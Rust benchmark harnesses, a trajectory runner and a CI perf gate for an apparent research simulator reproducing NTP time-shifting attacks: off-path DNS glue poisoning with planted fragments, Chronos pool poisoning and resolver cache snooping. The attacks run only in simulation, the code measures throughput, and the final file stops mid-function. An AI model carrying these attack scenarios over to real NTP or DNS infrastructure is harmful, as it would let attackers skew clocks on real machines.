fn timed(name: &'static str, trials: impl FnOnce() -> usize) -> Entry {
    let start = Instant::now();
    let n = trials();
    let elapsed = start.elapsed().as_secs_f64();
    println!("{name:8} {n:4} trials in {elapsed:8.3}s  ({:.2} trials/sec)", {
        n as f64 / elapsed.max(1e-9)
    });
    Entry { name, trials: n, elapsed_secs: elapsed }
}

/// The `campaign` CLI binary, if one is built: `CAMPAIGN_EXE` wins, then
/// the workspace release and debug targets.
fn campaign_exe() -> Option<std::path::PathBuf> {
    if let Ok(exe) = std::env::var("CAMPAIGN_EXE") {
        let p = std::path::PathBuf::from(exe);
        return p.is_file().then_some(p);
    }
    let root = std::path::Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."));
    ["target/release/campaign", "target/debug/campaign"]
        .iter()
        .map(|rel| root.join(rel))
        .find(|p| p.is_file())
}

/// Times a supervised vs. a bare subprocess `chronos_bound` campaign and
/// renders the `"supervision"` JSON object for `BENCH_measure.json`.
fn supervision_overhead_json(exe: &std::path::Path, scale: Scale) -> String {
    use campaign::exec::{run_campaign, CampaignConfig, ExecMode};
    use campaign::supervisor::{run_supervised, SupervisorConfig};

    let scenario = campaign::registry::find("chronos_bound").expect("registered scenario");
    let config = |dir: std::path::PathBuf| CampaignConfig {
        scenario,
        scale,
        scale_label: "quick".into(),
        shards: 3,
        workers: 3,
        mode: ExecMode::Subprocess { exe: exe.to_path_buf() },
        dir,
        verbose: false,
    };
    let dir = |tag: &str| {
        let d =
            std::env::temp_dir().join(format!("bench-supervision-{}-{tag}", std::process::id()));
        std::fs::remove_dir_all(&d).ok();
        d
    };

    println!("\nsupervision overhead (chronos_bound, 3 subprocess shards)\n");
    let bare_dir = dir("bare");
    #[allow(clippy::disallowed_methods)] // bench crate: R3 allowlist
    let start = Instant::now();
    let bare = run_campaign(&config(bare_dir.clone())).expect("bare subprocess campaign runs");
    let bare_elapsed = start.elapsed().as_secs_f64();
    std::fs::remove_dir_all(bare_dir).ok();

    let sup_dir = dir("supervised");
    let sup = SupervisorConfig { poll_interval_ms: 5, ..SupervisorConfig::default() };
    #[allow(clippy::disallowed_methods)] // bench crate: R3 allowlist
    let start = Instant::now();
    let supervised =
        run_supervised(&config(sup_dir.clone()), exe, &sup).expect("supervised campaign runs");
    let sup_elapsed = start.elapsed().as_secs_f64();
    std::fs::remove_dir_all(sup_dir).ok();

    assert_eq!(
        bare.digest, supervised.summary.digest,
        "supervision must never change campaign results"
    );
    let trials = bare.records;
    let bare_rate = trials as f64 / bare_elapsed.max(1e-9);
    let sup_rate = trials as f64 / sup_elapsed.max(1e-9);
    println!("bare       {trials:4} trials in {bare_elapsed:8.3}s  ({bare_rate:.2} trials/sec)");
    println!("supervised {trials:4} trials in {sup_elapsed:8.3}s  ({sup_rate:.2} trials/sec)");
    format!(
        "{{ \"scenario\": \"chronos_bound\", \"trials\": {trials}, \
         \"bare_trials_per_sec\": {bare_rate:.3}, \"supervised_trials_per_sec\": {sup_rate:.3}, \
         \"overhead_ratio\": {:.4}, \"digest\": \"{}\" }}",
        // >1 means supervision cost wall-clock time over the bare run.
        sup_elapsed.max(1e-9) / bare_elapsed.max(1e-9),
        bare.digest,
    )
}

fn main() {
    if std::env::args().skip(1).any(|a| a == "--engine-only") {
        let (stats, elapsed) = bench::engine_driver::measure();
        let rate = stats.events_dispatched as f64 / elapsed;
        println!(
            "engine   {:.2} M events/sec ({} events in {:.3}s)",
            rate / 1e6,
            stats.events_dispatched,
            elapsed
        );
        let defrag_peak = bench::engine_driver::defrag_churn(30_000);
        bench::artifact::write_engine_json(&stats, elapsed, defrag_peak);
        return;
    }
    let scale = Scale::quick();
    println!("scenario trajectory smoke at Scale::quick() ({} workers)\n", scale.workers);

    let mut entries = Vec::new();

    // Table I: one full boot-time attack per client model.
    let e = timed("table1", || {
        let rows = experiments::table1(scale.seed, scale.workers);
        assert!(!rows.is_empty(), "table1 produced no rows");
        rows.len()
    });
    entries.push(e);

    // Table II: the four end-to-end run-time attack cases.
    let e = timed("table2", || {
        let rows = experiments::table2(scale.seed, scale.workers);
        assert!(!rows.is_empty(), "table2 produced no rows");
        rows.len()
    });
    entries.push(e);

    // Fig. 6: resolver survey + TTL histogram (one mini-sim per resolver).
    let e = timed("fig6", || {
        let survey = experiments::resolver_survey(scale);
        let hist = survey.ttl_histogram(10, 150);
        assert!(!hist.is_empty(), "fig6 histogram is empty");
        scale.resolvers
    });
    entries.push(e);

    // Fig. 7: the same survey read through the latency side channel.
    let e = timed("fig7", || {
        let survey = experiments::resolver_survey(scale);
        let hist = survey.timing_histogram(25.0, 200.0);
        assert!(!hist.is_empty(), "fig7 histogram is empty");
        scale.resolvers
    });
    entries.push(e);

    // Engine headline number, so one artifact carries the whole picture.
    let (stats, engine_elapsed) = bench::engine_driver::measure();
    let engine_rate = stats.events_dispatched as f64 / engine_elapsed;
    println!("\nengine   {:.2} M events/sec", engine_rate / 1e6);

    let mut scenarios = String::new();
    for (i, e) in entries.iter().enumerate() {
        if i > 0 {
            scenarios.push_str(",\n");
        }
        scenarios.push_str(&format!(
            "    {{ \"name\": \"{}\", \"trials\": {}, \"elapsed_secs\": {:.6}, \
             \"trials_per_sec\": {:.3} }}",
            e.name,
            e.trials,
            e.elapsed_secs,
            e.trials_per_sec()
        ));
    }
    let json = format!(
        "{{\n  \"bench\": \"scenarios\",\n  \"scale\": \"quick\",\n  \"workers\": {},\n  \
         \"scenarios\": [\n{}\n  ],\n  \"engine_events_per_sec\": {:.0},\n  \
         \"engine_pool_hits\": {},\n  \"engine_pool_misses\": {}\n}}\n",
        scale.workers, scenarios, engine_rate, stats.pool_hits, stats.pool_misses,
    );

    // The CI gate: refuse to publish a malformed artifact.
    bench::json::validate(&json).expect("BENCH_scenarios.json must be well-formed JSON");

    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_scenarios.json");
    std::fs::write(path, &json).expect("write BENCH_scenarios.json");
    println!("wrote {path}");

    // ---- measure-scan trajectory, through the campaign registry ----
    //
    // One registry walk covers the three scans that previously ran only
    // under `cargo test`: each trial goes through the same
    // `Campaign::run_trial` entry point the sharded campaigns use, and
    // the stream digest is recorded so the artifact also pins scan
    // *results*, not just throughput.
    println!("\nmeasure-scan trajectory (campaign registry at Scale::quick())\n");
    let mut scans = String::new();
    for (i, name) in ["fig5", "table5_adstudy", "ratelimit"].iter().enumerate() {
        let scenario = campaign::registry::find(name).expect("registered scenario");
        let built = scenario.build(scale);
        let trials = built.trials();
        #[allow(clippy::disallowed_methods)] // bench crate: R3 allowlist
        let start = Instant::now();
        let indices: Vec<usize> = (0..trials).collect();
        let lines = TrialRunner::new(scale.workers)
            .run(&indices, |_, &idx| encode_line(scenario.schema, &built.run_trial(idx)));
        let elapsed = start.elapsed().as_secs_f64();
        let mut digest = Digest::new();
        for line in &lines {
            digest.update_line(line);
        }
        println!(
            "{name:<15} {trials:5} trials in {elapsed:8.3}s  ({:.2} trials/sec)  digest {}",
            trials as f64 / elapsed.max(1e-9),
            digest.hex()
        );
        if i > 0 {
            scans.push_str(",\n");
        }
        scans.push_str(&format!(
            "    {{ \"name\": \"{name}\", \"trials\": {trials}, \"elapsed_secs\": {elapsed:.6}, \
             \"trials_per_sec\": {:.3}, \"digest\": \"{}\" }}",
            trials as f64 / elapsed.max(1e-9),
            digest.hex()
        ));
    }
    // ---- supervision overhead: supervised vs bare subprocess shards ----
    //
    // The self-healing supervisor adds a poll loop, per-record stream
    // validation, and checkpoint recovery around every lease; this pins
    // its cost as a trials/sec ratio so a supervision regression shows up
    // in the artifact diff. Needs the `campaign` binary — when it isn't
    // built yet the section degrades to `null` rather than failing the
    // trajectory run.
    let supervision = match campaign_exe() {
        None => {
            println!("\nsupervision overhead: skipped (campaign binary not built)");
            "null".to_owned()
        }
        Some(exe) => supervision_overhead_json(&exe, scale),
    };

    // ---- paper-scale streaming: a lazy table4_snoop slice ----
    //
    // The paper's survey spans 1 583 045 resolvers; the campaign derives
    // every spec lazily from `(seed, index)`, so throughput and peak
    // memory must be flat in the population size. A 50k-resolver slice of
    // that index space pins records/sec and the process peak RSS (coarse:
    // `VmHWM` is process-wide and Linux-only — `null` elsewhere).
    println!("\npaper-scale streaming (lazy table4_snoop slice)\n");
    let paper_scale = {
        let slice = Scale { resolvers: 50_000, ..scale };
        let scenario = campaign::registry::find("table4_snoop").expect("registered scenario");
        let built = scenario.build(slice);
        let trials = built.trials();
        #[allow(clippy::disallowed_methods)] // bench crate: R3 allowlist
        let start = Instant::now();
        let indices: Vec<usize> = (0..trials).collect();
        let lines = TrialRunner::new(slice.workers)
            .run(&indices, |_, &idx| encode_line(scenario.schema, &built.run_trial(idx)));
        let elapsed = start.elapsed().as_secs_f64();
        let mut digest = Digest::new();
        for line in &lines {
            digest.update_line(line);
        }
        let peak_rss_kb = std::fs::read_to_string("/proc/self/status")
            .ok()
            .and_then(|s| {
                s.lines()
                    .find(|l| l.starts_with("VmHWM:"))
                    .and_then(|l| l.split_whitespace().nth(1))
                    .and_then(|v| v.parse::<u64>().ok())
            })
            .map_or_else(|| "null".to_owned(), |kb| kb.to_string());
        println!(
            "table4_snoop    {trials} lazy trials in {elapsed:8.3}s  ({:.0} records/sec)  \
             peak RSS {peak_rss_kb} kB  digest {}",
            trials as f64 / elapsed.max(1e-9),
            digest.hex()
        );
        format!(
            "{{ \"scenario\": \"table4_snoop\", \"resolvers\": {trials}, \
             \"elapsed_secs\": {elapsed:.6}, \"records_per_sec\": {:.0}, \
             \"peak_rss_kb\": {peak_rss_kb}, \"digest\": \"{}\" }}",
            trials as f64 / elapsed.max(1e-9),
            digest.hex()
        )
    };

    let measure_json = format!(
        "{{\n  \"bench\": \"measure\",\n  \"scale\": \"quick\",\n  \"workers\": {},\n  \
         \"scans\": [\n{}\n  ],\n  \"supervision\": {},\n  \"paper_scale\": {}\n}}\n",
        scale.workers, scans, supervision, paper_scale,
    );
    bench::json::validate(&measure_json).expect("BENCH_measure.json must be well-formed JSON");
    let measure_path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_measure.json");
    std::fs::write(measure_path, &measure_json).expect("write BENCH_measure.json");
    println!("wrote {measure_path}");

    // Cross-check the sibling artifact when the engine smoke ran first.
    let engine_path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_engine.json");
    if let Ok(engine_json) = std::fs::read_to_string(engine_path) {
        bench::json::validate(&engine_json).expect("BENCH_engine.json must be well-formed JSON");
        println!("validated {engine_path}");
    }
}
