//! Profiler harness: drive the engine ring back-to-back with no timing,
//! no JSON, and no scenario setup in the way.
//!
//! `trajectory --engine-only` is the *measurement* loop; this is the
//! *attribution* loop — a single hot process for sampling profilers
//! (`gprofng collect app target/release/spin 200`), where the signal
//! would otherwise drown in cargo/criterion scaffolding. The argument is
//! the number of ring drives (default 100, ≈100 k events each).

fn main() {
    let iters: u64 = std::env::args().nth(1).and_then(|a| a.parse().ok()).unwrap_or(100);
    let mut total = 0u64;
    for seed in 0..iters {
        let stats = bench::engine_driver::drive(seed + 1);
        total += stats.events_dispatched;
    }
    println!("dispatched {total}");
}
