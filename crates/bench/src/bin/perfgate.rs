//! CI perf-regression gate: compare the freshly measured engine
//! throughput against the committed baseline.
//!
//! Reads `BENCH_engine.json` (written moments earlier in the same CI run
//! by the engine bench smoke or `trajectory --engine-only`) and
//! `BENCH_baseline.json` (committed to the repository whenever the
//! hot-path work moves the needle), and fails — exit 1 — if
//! `engine_events_per_sec` dropped more than 10 % below the baseline.
//! Improvements print a hint to refresh the baseline but pass.
//!
//! Both files come from the same class of machine within a run, but
//! runners do vary; `PERFGATE_MIN_RATIO` overrides the default `0.9`
//! floor for environments with a different noise profile.

fn read_rate(path: &str) -> f64 {
    let body = std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("perfgate: cannot read {path}: {e}"));
    bench::json::validate(&body).unwrap_or_else(|e| panic!("perfgate: {path} is malformed: {e}"));
    // The baseline and the scenario artifact name the field
    // `engine_events_per_sec`; `BENCH_engine.json` itself (where engine
    // is the whole bench) says `events_per_sec`. Accept either.
    bench::json::number_field(&body, "engine_events_per_sec")
        .or_else(|| bench::json::number_field(&body, "events_per_sec"))
        .unwrap_or_else(|| panic!("perfgate: {path} has no numeric engine_events_per_sec"))
}

fn main() {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../..");
    let baseline = read_rate(&format!("{root}/BENCH_baseline.json"));
    let current = read_rate(&format!("{root}/BENCH_engine.json"));
    let min_ratio: f64 =
        std::env::var("PERFGATE_MIN_RATIO").ok().and_then(|v| v.parse().ok()).unwrap_or(0.9);
    let ratio = current / baseline;
    println!(
        "perfgate: engine {:.2} M events/sec vs baseline {:.2} M ({:+.1} %, floor {:.0} %)",
        current / 1e6,
        baseline / 1e6,
        (ratio - 1.0) * 100.0,
        min_ratio * 100.0,
    );
    if ratio < min_ratio {
        eprintln!(
            "perfgate: FAIL — engine throughput regressed more than {:.0} % below the \
             committed baseline (BENCH_baseline.json)",
            (1.0 - min_ratio) * 100.0
        );
        std::process::exit(1);
    }
    if ratio > 1.1 {
        println!(
            "perfgate: engine is {:.0} % above baseline — consider refreshing \
             BENCH_baseline.json to tighten the gate",
            (ratio - 1.0) * 100.0
        );
    }
    println!("perfgate: OK");
}
