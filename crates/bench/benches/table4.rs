//! Table IV: pool.ntp.org caching state in open resolvers (RD=0 snooping).

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    let survey = experiments::resolver_survey(Scale { resolvers: 1500, ..Scale::quick() });
    bench::show("Table IV", &experiments::format_table4(&survey));
    c.bench_function("table4/snoop_one_resolver", |b| {
        let population = open_resolvers(64, 9);
        let mut i = 0;
        b.iter(|| {
            i += 1;
            measure::snoop::scan_resolver(&population[i % population.len()], i as u64)
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench
}
criterion_main!(benches);
