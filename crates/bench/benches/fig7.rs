//! Fig. 7: the latency side channel t_first − t_avg (and why it is not a
//! usable cache detector).

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    let survey = experiments::resolver_survey(Scale { resolvers: 1200, ..Scale::quick() });
    bench::show("Fig. 7", &experiments::format_fig7(&survey));
    c.bench_function("fig7/timing_histogram", |b| b.iter(|| survey.timing_histogram(25.0, 200.0)));
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench
}
criterion_main!(benches);
