//! Table II: run-time attack durations (full end-to-end simulations).

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    let rows = experiments::table2(2020, Scale::quick().workers);
    bench::show("Table II", &experiments::format_table2(&rows));
    c.bench_function("table2/runtime_attack_ntpd_p1", |b| {
        let mut seed = 0;
        b.iter(|| {
            seed += 1;
            run_runtime_attack(
                ScenarioConfig { seed, ..ScenarioConfig::default() },
                ClientKind::Ntpd,
                RuntimeScenario::KnownUpstreams {
                    servers: (1..=8u32)
                        .map(|i| std::net::Ipv4Addr::from(0xC000_0200 + i))
                        .collect(),
                },
            )
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
