//! §VI: the Chronos pool-poisoning bound (N <= 11) and the end-to-end run.

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    bench::show("Chronos §VI-C", &experiments::format_chronos_bound(&experiments::chronos_bound()));
    let outcome = run_chronos_attack(
        ScenarioConfig { seed: 11, ..ScenarioConfig::default() },
        SimDuration::from_mins(3),
    );
    bench::show(
        "Chronos live",
        &format!(
            "pool fraction {:.1}%, final offset {:+.1}s, success={}",
            outcome.malicious_fraction * 100.0,
            outcome.observed_shift,
            outcome.success
        ),
    );
    c.bench_function("chronos/panic_round_137_servers", |b| {
        let mut offsets = vec![NtpDuration::from_secs_f64(0.0); 48];
        offsets.extend(vec![NtpDuration::from_secs_f64(-500.0); 89]);
        b.iter(|| evaluate_panic(&offsets, &ChronosConfig::default()))
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(30);
    targets = bench
}
criterion_main!(benches);
