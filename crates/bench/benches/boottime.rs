//! §IV-A: the boot-time attack pipeline — poisoning latency and the
//! 5-fragment planting budget.

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    bench::show("§IV-A budget", &experiments::boot_budget().to_string());
    // Measure time-to-glue-poisoning across seeds.
    let mut lat = Vec::new();
    for seed in 0..5 {
        let mut scenario = Scenario::build(ScenarioConfig { seed, ..ScenarioConfig::default() });
        scenario.launch_poisoner();
        if let Some(t) = scenario.run_until_condition(
            SimDuration::from_secs(15),
            SimDuration::from_mins(30),
            |s| s.poisoner().map(OffPathPoisoner::glue_poisoned).unwrap_or(false),
        ) {
            lat.push(t.as_secs_f64() / 60.0);
        }
    }
    bench::show(
        "§IV-A glue-poisoning latency",
        &format!("{}/5 seeds poisoned; minutes: {lat:.1?}", lat.len()),
    );
    c.bench_function("boottime/full_attack", |b| {
        let mut seed = 100;
        b.iter(|| {
            seed += 1;
            run_boot_time_attack(
                ScenarioConfig { seed, ..ScenarioConfig::default() },
                ClientKind::SystemdTimesyncd,
            )
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
