//! Table III: vulnerable-state probabilities (closed form + Monte Carlo).

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    bench::show("Table III", &experiments::format_table3(&experiments::table3()));
    c.bench_function("table3/closed_form", |b| b.iter(experiments::table3));
    c.bench_function("table3/monte_carlo_p2_6_4", |b| {
        let mut seed = 0;
        b.iter(|| {
            seed += 1;
            timeshift::analysis::p2_monte_carlo(6, 4, P_RATE, 100_000, seed)
        })
    });
}

criterion_group!(benches, bench);
criterion_main!(benches);
