//! engine: raw event-loop throughput (events/sec) and defrag-cache expiry.
//!
//! This is the regression guard for the engine's hot paths: slab-indexed
//! dispatch, the timing-wheel event queue, the zero-clone packet delivery
//! path, and `DefragCache::expire`'s time-ordered ring. The event budget
//! bounds each iteration to an exact event count, so the measured time is
//! time-per-N-events.
//!
//! In `--test` smoke mode (CI) the headline numbers are also written to
//! `BENCH_engine.json` at the workspace root — the per-PR perf trajectory
//! artifact.

use std::net::Ipv4Addr;
use std::time::Instant;

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

const EVENTS_PER_ITER: u64 = 100_000;
const RING_HOSTS: u32 = 64;

/// Forwards every datagram to the next host in the ring, forever. The
/// event budget is what terminates the run.
struct RingForwarder {
    next: Ipv4Addr,
}

impl Host for RingForwarder {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.send_udp(self.next, 4000, 4000, bytes::Bytes::from_static(b"lap"));
    }
    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        ctx.send_udp(self.next, d.dst_port, d.src_port, d.payload.clone());
    }
}

fn ring_sim(seed: u64) -> Simulator {
    let mut sim = Simulator::with_topology(
        seed,
        Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(5))),
    );
    let addr = |i: u32| Ipv4Addr::from(0x0A00_0000 + 1 + i);
    for i in 0..RING_HOSTS {
        let next = addr((i + 1) % RING_HOSTS);
        sim.add_host(addr(i), OsProfile::linux(), Box::new(RingForwarder { next }))
            .expect("ring address free");
    }
    sim.set_event_budget(EVENTS_PER_ITER);
    sim
}

/// One full iteration: dispatch exactly [`EVENTS_PER_ITER`] events.
fn drive(seed: u64) -> SimStats {
    let mut sim = ring_sim(seed);
    // The budget (not the deadline) terminates the run.
    sim.run_for(SimDuration::from_secs(86_400));
    sim.stats()
}

fn defrag_churn(rounds: u64) -> usize {
    let mut cache =
        DefragCache::new(DefragConfig { max_pending_per_pair: 64, ..DefragConfig::default() });
    let src = Ipv4Addr::new(10, 0, 0, 1);
    let dst = Ipv4Addr::new(10, 0, 0, 2);
    let base = Ipv4Packet::udp(src, dst, 0, bytes::Bytes::from(vec![0xAB; 2000]));
    let template = fragment(base, 1028).expect("fragments")[1].clone();
    let mut pending_peak = 0;
    for round in 0..rounds {
        // One planted fragment per second: every insert past the timeout
        // horizon also expires the oldest entry through the ring.
        let mut f = template.clone();
        f.id = (round % 0x1_0000) as u16;
        let now = SimTime::ZERO + SimDuration::from_secs(round);
        cache.insert(now, f);
        pending_peak = pending_peak.max(cache.pending_reassemblies());
    }
    pending_peak
}

/// Writes the perf-trajectory artifact to the workspace root. Failure to
/// write (e.g. a read-only checkout) only warns: the bench result itself
/// still stands.
fn write_bench_json(stats: &SimStats, elapsed_secs: f64, rate: f64, defrag_peak: usize) {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_engine.json");
    let json = format!(
        "{{\n  \"bench\": \"engine\",\n  \"events_dispatched\": {},\n  \
         \"elapsed_secs\": {:.6},\n  \"events_per_sec\": {:.0},\n  \
         \"peak_queue_depth\": {},\n  \"ipid_evictions\": {},\n  \
         \"defrag_spray_rounds\": 30000,\n  \"defrag_peak_pending\": {}\n}}\n",
        stats.events_dispatched,
        elapsed_secs,
        rate,
        stats.peak_queue_depth,
        stats.ipid_evictions,
        defrag_peak,
    );
    match std::fs::write(path, json) {
        Ok(()) => println!("wrote {path}"),
        Err(e) => eprintln!("warning: could not write {path}: {e}"),
    }
}

fn bench(c: &mut Criterion) {
    // Headline numbers once per run: end-to-end events/sec of the loop,
    // peak event-queue depth, and the defrag cache's churn behaviour.
    // Best of three drives of the SAME seed (identical stats every time,
    // minimum elapsed): the recorded trajectory number reflects the
    // engine, not scheduler noise or seed luck.
    let (mut stats, mut elapsed) = {
        let start = Instant::now();
        (drive(1), start.elapsed())
    };
    for _ in 0..2 {
        let start = Instant::now();
        let s = drive(1);
        let e = start.elapsed();
        if e < elapsed {
            (stats, elapsed) = (s, e);
        }
    }
    let rate = stats.events_dispatched as f64 / elapsed.as_secs_f64();
    let defrag_peak = defrag_churn(30_000);
    bench::show(
        "Engine",
        &format!(
            "wheel dispatch: {} events in {:?} ≈ {:.2} M events/sec, peak queue {}\n\
             (ring of {RING_HOSTS} hosts, 5 ms links, budget-bounded); \
             defrag spray peak pending {}",
            stats.events_dispatched,
            elapsed,
            rate / 1e6,
            stats.peak_queue_depth,
            defrag_peak
        ),
    );
    // Smoke mode is the per-PR CI entry point: record the trajectory.
    if std::env::args().skip(1).any(|a| a == "--test") {
        write_bench_json(&stats, elapsed.as_secs_f64(), rate, defrag_peak);
    }

    c.bench_function("engine/dispatch_100k_events", |b| {
        let mut seed = 0;
        b.iter(|| {
            seed += 1;
            drive(seed)
        })
    });

    c.bench_function("engine/defrag_spray_30k_with_expiry", |b| b.iter(|| defrag_churn(30_000)));
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
