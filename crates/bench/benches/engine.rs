//! engine: raw event-loop throughput (events/sec) and defrag-cache expiry.
//!
//! This is the regression guard for the engine's hot paths: slab-indexed
//! dispatch, the timing-wheel event queue, the zero-clone packet delivery
//! path, the pooled buffer allocator, and `DefragCache::expire`'s
//! time-ordered ring. The event budget bounds each iteration to an exact
//! event count, so the measured time is time-per-N-events. The ring/drive
//! machinery itself lives in `bench::engine_driver`, shared with the
//! `trajectory` scenario smoke runner.
//!
//! In `--test` smoke mode (CI) the headline numbers are also written to
//! `BENCH_engine.json` at the workspace root — the per-PR perf trajectory
//! artifact — after being checked by the `bench::json` validator (a
//! malformed artifact panics the smoke run and fails CI).

use bench::engine_driver::{defrag_churn, drive, measure, EVENTS_PER_ITER, RING_HOSTS};
use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Headline numbers once per run: end-to-end events/sec of the loop,
    // peak event-queue depth, pool hit rate, and the defrag cache's churn
    // behaviour. Best of three drives of the SAME seed (identical stats
    // every time, minimum elapsed): the recorded trajectory number
    // reflects the engine, not scheduler noise or seed luck.
    let (stats, elapsed) = measure();
    let rate = stats.events_dispatched as f64 / elapsed;
    let defrag_peak = defrag_churn(30_000);
    let pool_served = stats.pool_hits + stats.pool_misses;
    bench::show(
        "Engine",
        &format!(
            "wheel dispatch: {} events in {:.3?}s ≈ {:.2} M events/sec, peak queue {}\n\
             (ring of {RING_HOSTS} hosts, 5 ms links, budget of {EVENTS_PER_ITER}); \
             pool: {}/{} serves allocation-free; defrag spray peak pending {}",
            stats.events_dispatched,
            elapsed,
            rate / 1e6,
            stats.peak_queue_depth,
            stats.pool_hits,
            pool_served,
            defrag_peak
        ),
    );
    // Smoke mode is the per-PR CI entry point: record the trajectory.
    // The artifact shape (incl. struct sizes and per-move cost) lives in
    // `bench::artifact`, shared with `trajectory --engine-only`.
    if std::env::args().skip(1).any(|a| a == "--test") {
        bench::artifact::write_engine_json(&stats, elapsed, defrag_peak);
    }

    c.bench_function("engine/dispatch_100k_events", |b| {
        let mut seed = 0;
        b.iter(|| {
            seed += 1;
            drive(seed)
        })
    });

    c.bench_function("engine/defrag_spray_30k_with_expiry", |b| b.iter(|| defrag_churn(30_000)));
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
