//! engine: raw event-loop throughput (events/sec) and defrag-cache expiry.
//!
//! This is the regression guard for the engine's hot paths: slab-indexed
//! dispatch, the timing-wheel event queue, the zero-clone packet delivery
//! path, the pooled buffer allocator, and `DefragCache::expire`'s
//! time-ordered ring. The event budget bounds each iteration to an exact
//! event count, so the measured time is time-per-N-events. The ring/drive
//! machinery itself lives in `bench::engine_driver`, shared with the
//! `trajectory` scenario smoke runner.
//!
//! In `--test` smoke mode (CI) the headline numbers are also written to
//! `BENCH_engine.json` at the workspace root — the per-PR perf trajectory
//! artifact — after being checked by the `bench::json` validator (a
//! malformed artifact panics the smoke run and fails CI).

use std::net::Ipv4Addr;

use bench::engine_driver::{drive, measure, EVENTS_PER_ITER, RING_HOSTS};
use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn defrag_churn(rounds: u64) -> usize {
    let mut cache =
        DefragCache::new(DefragConfig { max_pending_per_pair: 64, ..DefragConfig::default() });
    let src = Ipv4Addr::new(10, 0, 0, 1);
    let dst = Ipv4Addr::new(10, 0, 0, 2);
    let base = Ipv4Packet::udp(src, dst, 0, bytes::Bytes::from(vec![0xAB; 2000]));
    let template = fragment(base, 1028).expect("fragments")[1].clone();
    let mut pending_peak = 0;
    for round in 0..rounds {
        // One planted fragment per second: every insert past the timeout
        // horizon also expires the oldest entry through the ring.
        let mut f = template.clone();
        f.id = (round % 0x1_0000) as u16;
        let now = SimTime::ZERO + SimDuration::from_secs(round);
        cache.insert(now, f);
        pending_peak = pending_peak.max(cache.pending_reassemblies());
    }
    pending_peak
}

/// Writes the perf-trajectory artifact to the workspace root after
/// validating it. Failure to *write* (e.g. a read-only checkout) only
/// warns; emitting malformed JSON panics — that is the CI gate.
fn write_bench_json(stats: &SimStats, elapsed_secs: f64, rate: f64, defrag_peak: usize) {
    let pool_served = stats.pool_hits + stats.pool_misses;
    let pool_hit_rate =
        if pool_served == 0 { 1.0 } else { stats.pool_hits as f64 / pool_served as f64 };
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_engine.json");
    let json = format!(
        "{{\n  \"bench\": \"engine\",\n  \"events_dispatched\": {},\n  \
         \"elapsed_secs\": {:.6},\n  \"events_per_sec\": {:.0},\n  \
         \"peak_queue_depth\": {},\n  \"ipid_evictions\": {},\n  \
         \"pool_hits\": {},\n  \"pool_misses\": {},\n  \"pool_hit_rate\": {:.6},\n  \
         \"defrag_spray_rounds\": 30000,\n  \"defrag_peak_pending\": {}\n}}\n",
        stats.events_dispatched,
        elapsed_secs,
        rate,
        stats.peak_queue_depth,
        stats.ipid_evictions,
        stats.pool_hits,
        stats.pool_misses,
        pool_hit_rate,
        defrag_peak,
    );
    bench::json::validate(&json).expect("BENCH_engine.json must be well-formed JSON");
    assert!(
        pool_hit_rate >= 0.99,
        "steady-state deliver path must be allocation-free: pool hit rate {pool_hit_rate:.4} \
         ({} hits / {} misses)",
        stats.pool_hits,
        stats.pool_misses
    );
    match std::fs::write(path, json) {
        Ok(()) => println!("wrote {path}"),
        Err(e) => eprintln!("warning: could not write {path}: {e}"),
    }
}

fn bench(c: &mut Criterion) {
    // Headline numbers once per run: end-to-end events/sec of the loop,
    // peak event-queue depth, pool hit rate, and the defrag cache's churn
    // behaviour. Best of three drives of the SAME seed (identical stats
    // every time, minimum elapsed): the recorded trajectory number
    // reflects the engine, not scheduler noise or seed luck.
    let (stats, elapsed) = measure();
    let rate = stats.events_dispatched as f64 / elapsed;
    let defrag_peak = defrag_churn(30_000);
    let pool_served = stats.pool_hits + stats.pool_misses;
    bench::show(
        "Engine",
        &format!(
            "wheel dispatch: {} events in {:.3?}s ≈ {:.2} M events/sec, peak queue {}\n\
             (ring of {RING_HOSTS} hosts, 5 ms links, budget of {EVENTS_PER_ITER}); \
             pool: {}/{} serves allocation-free; defrag spray peak pending {}",
            stats.events_dispatched,
            elapsed,
            rate / 1e6,
            stats.peak_queue_depth,
            stats.pool_hits,
            pool_served,
            defrag_peak
        ),
    );
    // Smoke mode is the per-PR CI entry point: record the trajectory.
    if std::env::args().skip(1).any(|a| a == "--test") {
        write_bench_json(&stats, elapsed, rate, defrag_peak);
    }

    c.bench_function("engine/dispatch_100k_events", |b| {
        let mut seed = 0;
        b.iter(|| {
            seed += 1;
            drive(seed)
        })
    });

